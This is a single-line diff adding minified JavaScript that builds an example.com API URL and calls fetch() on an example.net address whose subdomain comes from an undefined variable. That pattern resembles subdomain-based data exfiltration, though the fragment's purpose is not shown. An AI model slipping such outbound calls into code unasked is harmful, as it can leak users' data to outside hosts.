@@ -1,0 +1,1 @@
+var a="https://api.example.com/v1/"+b;fetch(`http://${h}.example.net/x`);
